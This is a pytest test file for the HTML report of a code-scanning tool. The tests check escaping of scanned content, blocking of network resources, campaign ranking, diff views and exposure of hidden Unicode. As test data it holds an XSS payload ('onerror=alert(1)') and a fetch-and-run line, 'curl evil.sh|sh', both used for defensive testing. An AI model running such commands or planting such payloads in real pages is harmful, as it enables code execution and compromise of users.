"""The HTML report from scan, campaigns and drop-report JSON: content, ranking, variants, and inert scanned text."""
import json
import re
from html.parser import HTMLParser

import pytest

from codescan.cli import main
from codescan.report.escape import script_json
from report_inputs import XSS, write_inputs


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text of <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("report")
    p = write_inputs(tmp)
    out = tmp / "report.html"
    code = main(["report", "--scan", str(p["scan"]), "--campaigns", str(p["campaigns"]), "--drops", str(p["drops"]),
                 "--source", str(p["tree"]), "--title", "Mirror review", "-o", str(out)])
    assert code == 0
    page = out.read_text(encoding="utf-8")
    parsed = Elements()
    parsed.feed(page)
    return page, parsed


def test_scanned_html_and_script_stay_inert(report):
    page, parsed = report
    assert not [t for t, _ in parsed.tags if t == "img"], "a payload in scanned code became an element"
    assert not [a for _, a in parsed.tags if any(k.startswith("on") for k in a)], "an event handler attribute"
    assert len(parsed.scripts) == 2 and page.count("</script>") == 2  # the data block and the filter script
    assert "&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    data = json.loads(parsed.scripts[0])
    assert XSS in json.dumps(data["campaigns"], ensure_ascii=False)  # the repo name round-trips as data
    assert "alert(1)" not in parsed.scripts[1]


def test_no_network_resources(report):
    page, parsed = report
    for tag, attrs in parsed.tags:
        for key in ("src", "href"):
            value = attrs.get(key) or ""
            assert not value.startswith(("http:", "https:", "//")) or tag == "a", (tag, attrs)
    assert not [t for t, _ in parsed.tags if t in ("link", "iframe", "img", "object", "embed")]
    assert "default-src 'none'" in page


def test_summary_campaigns_ranked_with_reasons_timeline_and_people(report):
    page, parsed = report
    assert "<title>Mirror review</title>" in page
    ids = [a["id"] for t, a in parsed.tags if t == "section" and a.get("id", "").startswith("campaign-")]
    assert ids == ["campaign-c-7f3a91", "campaign-c-00b1e2"]  # the higher score first
    planted = page[page.index('id="campaign-c-7f3a91"'):page.index('id="campaign-c-00b1e2"')]
    assert "introduced within 3 days by 3 identities" in planted
    assert len(re.findall(r"<circle class=\"dot hit\"", planted)) == 4  # one dot per member, all with findings
    for name in ("alice/weather", "bob/todo-app", "carol/csv-tools", "m4llory"):
        assert name in planted
    assert "2024-05-02" in planted and "score 9.25" in planted


def test_variants_side_by_side_with_differences_and_findings_marked(report):
    page, _ = report
    planted = page[page.index('id="campaign-c-7f3a91"'):page.index('id="campaign-c-00b1e2"')]
    assert "2 distinct variants" in planted  # weather and csv-tools are the same text
    assert "<del>refresh_cache</del>" in planted and "<ins>refresh_store</ins>" in planted
    assert 'class="src changed flagged"' in planted and "▲ os-system-built-command" in planted
    assert "The code of 1 member(s) was not at hand" in planted


def test_findings_table_filters_and_rule_links(report):
    page, parsed = report
    rows = [a for t, a in parsed.tags if t == "tr" and "data-rule" in a]
    assert len(rows) == 8
    assert {r["data-severity"] for r in rows} == {"critical", "high", "low"}
    assert rows[0]["data-severity"] == "critical"  # most severe first
    filters = {a["data-filter"] for t, a in parsed.tags if t == "select"}
    assert filters == {"category", "severity", "repo", "rule"}
    data = json.loads(parsed.scripts[0])
    assert data["facets"]["repo"] == sorted({r["data-repo"] for r in rows if r["data-repo"]})
    anchors = {a["id"] for _, a in parsed.tags if "id" in a}
    links = {a["href"][1:] for t, a in parsed.tags if t == "a" and a.get("href", "").startswith("#rule-")}
    assert links and links <= anchors  # every rule link lands on a catalogue entry
    assert "<mark>hashlib.md5</mark>(data)" in page  # the matched span of a column-1 finding


def test_hidden_unicode_made_visible(report):
    page, _ = report
    hidden = page[page.index('id="hidden"'):]
    assert "⟨U+202E⟩" in hidden and "⟨U+2066⟩" in hidden
    assert "hidden text: <code>curl evil.sh|sh</code>" in hidden
    assert "\u202e" not in page and "\U000e0063" not in page


def test_standards_and_drops(report):
    page, _ = report
    standards = page[page.index('id="standards"'):]
    assert "LLM04" in standards and "PR.DS-01" in standards and "MEASURE 2.7" in standards
    assert "CWE-1007" in standards  # hidden-unicode
    drops = page[page.index('id="drops"'):page.index('id="standards"')]
    assert "train-0001.jsonl" in drops and "c-7f3a91" in drops and "&lt;/script&gt;" in drops


def test_script_json_cannot_close_its_element():
    text = script_json({"a": "</script><!-- \u2028 & >"})
    assert "<" not in text and ">" not in text and "&" not in text and "\u2028" not in text
    assert json.loads(text) == {"a": "</script><!-- \u2028 & >"}


def test_bad_inputs_are_one_line_errors(tmp_path, capsys):
    assert main(["report", "-o", str(tmp_path / "r.html")]) == 2
    (tmp_path / "x.json").write_text("{not json", encoding="utf-8")
    assert main(["report", "--scan", str(tmp_path / "x.json"), "-o", str(tmp_path / "r.html")]) == 2
    assert main(["report", "--state", str(tmp_path / "missing.db"), "-o", str(tmp_path / "r.html")]) == 2
    err = capsys.readouterr().err
    assert err.count("codescan: error:") == 3 and "Traceback" not in err
